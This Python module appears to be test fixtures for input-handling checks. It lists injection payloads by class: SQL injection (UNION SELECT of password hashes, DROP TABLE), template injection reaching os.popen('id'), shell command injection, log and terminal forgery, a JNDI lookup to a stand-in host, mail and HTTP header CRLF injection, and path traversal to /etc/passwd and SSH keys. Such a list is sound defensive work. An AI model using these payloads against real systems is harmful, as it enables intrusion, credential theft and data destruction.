"""What somebody might write to make a database, a template, a log, a mail or a header do something else.

Each class ends in what it would show if it worked; what it must be instead is text, or a refusal with a reason.
"""

_QUERIES = (
    "' OR '1'='1", "' OR 1=1--", "' OR 1=1#", "' OR 1=1/*", "') OR ('1'='1", "')) OR (('1'='1", "\" OR \"\"=\"",
    "admin'--", "admin' #", "admin'/*", "' AND 1=0 UNION SELECT 1--", "' UNION SELECT NULL--",
    "' UNION SELECT email,name FROM account--", "' UNION ALL SELECT password_hash FROM account--",
    "'; DROP TABLE team;--", "'; DELETE FROM log;--", "'; UPDATE account SET name='x';--",
    "1; ATTACH DATABASE 'x.db' AS x;--", "' AND (SELECT COUNT(*) FROM account)>0--", "' AND SLEEP(5)--",
    "' AND pg_sleep(5)--", "1 AND randomblob(1000000000)", "' || (SELECT 'x') || '", "' || pg_sleep(1)--",
    "%' OR name LIKE '%", "%", "_", "%%%%%%%%", "[a-z]%", "\\'; DROP TABLE drill;--", "\\", "\\'", "''", "'", "\"", "`",
    "x' ESCAPE '", "1e309", "-1", "0x1", "NULL", "null", "None", "NaN", "1/0", "9223372036854775808",
    "-9223372036854775809",
    "' GROUP BY 1 HAVING 1=1--", "' ORDER BY 100--", "' LIMIT 1 OFFSET 1--", "CHAR(39)||CHAR(39)",
    "load_extension('x')",
    "' INTO OUTFILE '/tmp/x'--", "COPY x FROM PROGRAM 'id'", "$$;SELECT 1;$$", "E'\\'", "U&'\\0027'", "ʼ OR 1=1--",
    "＇ OR 1=1--", "%27%20OR%201=1--", "&#39; OR 1=1--", ":name", "%(name)s", "?1", "$1", "@x", "{name}", "%s%s%s%n",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{{ 7*7 }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{7*'7'}}", "{%raw%}{{7*7}}{%endraw%}", "*{7*7}",
    "@{7*7}", "~{7*7}", "{{config}}", "{{config.SECRET_KEY}}", "{{self}}", "{{request.environ}}", "{{g}}",
    "{{session}}", "{{url_for.__globals__}}", "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "{{lipsum.__globals__['os']}}", "{% import os %}",
    "{% for x in (1,2) %}x{% endfor %}", "{% include '/etc/passwd' %}", "{% extends 'base.html' %}", "{# gone #}",
    "{{ (1).__class__ }}", "{{'a'*100000000}}", "{{range(100000000)|list}}", "%(config)s", "%(language)s",
    "%(name)s%(name)s", "%(", "%)", "%", "%d", "%(x)d", "{0}", "{0.__class__}", "{x!r:>{y}}", "{", "}", "{}",
    "$(id)", "`id`", "$((7*7))", "; id", "| id", "&& id", "!(7*7)", "=7*7", "{!7*7}", "[[7*7]]", "[(7*7)]",
    "#set($x=7*7)$x", "{php}echo 7*7;{/php}", "<#assign x=7*7>${x}", "{{=7*7}}", "{{{7*7}}}",
)  # fmt: skip
_LINES = (
    "Ana\nINFO forged line", "Ana\rINFO forged line", "Ana\r\nINFO forged line", "Ana\x0bforged", "Ana\x0cforged",
    "Ana\x85forged", "Ana\u2028forged", "Ana\u2029forged", "Ana\x1b[2J", "Ana\x1b[31mred\x1b[0m",
    "Ana\x1b]0;title\x07", "Ana\x1b]8;;http://trap.example\x07x", "\x1b[1A\x1b[2Kgone", "\x1bP+q\x1b\\", "\x9b31mred",
    "Ana\x08\x08\x08Eva", "Ana\x7f", "\x07bell", "\x00", "Ana\x00Eva", "\x00\x00\x00", "Ana\u0000",
    "\ud800", "Ana\udfff",
    "Ana\u202eavE", "Ana\u2066x\u2069", "\ufeffAna", "Ana\u200b", "Ana\u00ad", "Ana\U000e0041", "\ufff9x\ufffa\ufffb",
    "%0aINFO forged line", "%0d%0aINFO forged", "\\nINFO forged", "&#10;INFO forged", "[ERROR] forged",
    '{"level":"error"}', "level=error msg=forged", "127.0.0.1 - - [x] \"GET / HTTP/1.1\" 200 -", "<134>1 forged",
    "${jndi:ldap://trap.example/x}", "${env:PATH}", "%{PATH}", "$PATH", "~root", "\t\t\t", "   ", "\u3000",
    "a" * 5000, "\u0301" * 400, "🏳️‍🌈" * 30, "ﷺ" * 90, "\uffff", "\ufdd0", "\u2800", "\u115f",
)  # fmt: skip
_MAILS = (
    "ana@ministry.example\r\nBcc: eva@trap.example", "ana@ministry.example\nBcc: eva@trap.example",
    "ana@ministry.example%0aBcc:eva@trap.example", "ana@ministry.example,eva@trap.example",
    "ana@ministry.example;eva@trap.example", "ana@ministry.example eva@trap.example", "\"ana\nx\"@ministry.example",
    "<ana@ministry.example>", "Ana <ana@ministry.example>", "ana@[127.0.0.1]", "ana@localhost", "ana@ministry.example.",
    "ana@ministry..example", "@ministry.example", "ana@", "ana", "ana@@ministry.example", "ana@ministry.example\x00",
    "ana@ministry.example\u2028Bcc: x@trap.example", "ana@xn--80ak6aa92e.com", "аna@ministry.example",
    "ana+\r\nx@ministry.example", "\r\n.\r\n", "\r\nQUIT\r\n", "ana@ministry.example\r\n\r\n<b>body</b>",
    "=?utf-8?q?ana=0aBcc:x?=@ministry.example", "(ana)@ministry.example", "ana@ministry.example?bcc=x@trap.example",
    "mailto:ana@ministry.example", "a" * 300 + "@ministry.example", "ana@" + "x." * 130 + "example",
)  # fmt: skip
_HEADERS = (
    "x\r\nSet-Cookie: planted=1", "x\nSet-Cookie: planted=1", "x\rSet-Cookie: planted=1",
    "x%0d%0aSet-Cookie: planted=1",
    "x\r\n\r\n<html>planted", "x\u560d\u560aSet-Cookie: planted=1", "x\r\n\tLocation: http://trap.example",
    "x\r\nLocation: http://trap.example", "x\r\nX-Planted: 1", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
    "x; planted=1", "x, planted=1", "planted=1; Path=/", "\"; filename=\"x.html", "x\"; filename*=utf-8''x.html",
    "../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "file:///etc/passwd", "C:\\x",
    "\\\\trap.example\\x", "CON", "NUL",
    "x.html", "x.svg", "x.php\x00.png", ".htaccess", "-rf", "--help", "~/.ssh/id_rsa", "con.txt ", "x" * 300,
    "http://trap.example", "//trap.example", "/\\trap.example", "https:trap.example", "javascript:7*7",
    "data:text/html,x",
)  # fmt: skip

INJECTIONS = {
    "queries": _QUERIES, "templates and shells": _TEMPLATES, "lines and terminals": _LINES, "mail": _MAILS,
    "headers and paths": _HEADERS,
}  # fmt: skip
ALL_INJECTIONS = tuple(dict.fromkeys(one for payloads in INJECTIONS.values() for one in payloads))
